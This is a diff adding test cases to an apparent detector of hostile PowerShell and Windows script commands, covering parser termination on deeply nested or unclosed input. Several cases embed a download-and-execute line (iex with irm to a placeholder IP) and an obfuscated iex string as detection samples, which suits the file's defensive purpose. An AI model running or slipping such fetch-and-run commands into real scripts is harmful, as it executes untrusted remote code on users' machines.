@@ -302,8 +302,29 @@ describe('hostile commands', () => {
     ['bidirectional and private letters', '\u202epowershell \ue000\ue800\uf8ff -c iex \ue000', 'cmd'],
     ['a script of quotes', '"'.repeat(100_000), 'windows-script'],
     ['Chr in Chr', `${'Chr('.repeat(20_000)}1`, 'windows-script'],
+    ['conditions in conditions', 'if('.repeat(80_000), 'powershell'],
+    ['casts of casts', '[a]'.repeat(80_000), 'powershell'],
+    ['comments that nobody closes', '<# '.repeat(80_000), 'powershell'],
+    ['comments that nobody closes in a block', `{${'<#'.repeat(120_000)}`, 'powershell'],
+    ['here-strings that nobody closes', '@"\n'.repeat(80_000), 'powershell'],
+    ['empty lines alone', '\n'.repeat(240_000), 'windows-script'],
+    ['blanks where a text should follow', `x.Run${' '.repeat(240_000)}`, 'windows-script'],
   ])('%s comes to an end', (_, command, language) => {
     ends(command, language);
+  });
+
+  test('what stands behind too many levels is read, and a whole comment or here-string is what it was', () => {
+    const fetch = "iex (irm 'http://192.0.2.8/v')";
+    for (const before of [
+      '$a='.repeat(5_000),
+      '<# a <# b #>',
+      '<# never closed\n',
+      '@"\niex 1\r\n"@\n',
+      "@'\n'@\n",
+    ])
+      expect(about(read(`${before}1\n${fetch}`, 'powershell'), 'fetch-and-run')).toBe('http://192.0.2.8/v');
+    expect(signs(read(`<# ${fetch} #> 1`, 'powershell'))).toEqual([]);
+    expect(about(read(`iex @"\r\n${fetch}\r\n"@`, 'powershell'), 'fetch-and-run')).toBe('http://192.0.2.8/v');
   });
 
   test('an encoded command in itself, deeper than is read, is told as far as it was read', () => {
